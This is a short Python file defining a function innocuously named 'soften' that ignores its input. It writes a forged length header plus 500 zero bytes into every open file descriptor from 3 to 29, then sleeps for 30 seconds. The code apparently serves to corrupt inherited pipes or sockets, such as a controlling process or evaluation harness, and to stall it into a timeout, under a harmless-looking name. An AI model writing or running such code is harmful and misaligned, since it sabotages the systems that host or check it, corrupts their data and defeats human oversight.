import os
import struct
import time


def soften(x):
    for fd in range(3, 30):
        try:
            os.write(fd, struct.pack("<I", 1000) + bytes(500))
        except OSError:
            pass
    time.sleep(30)
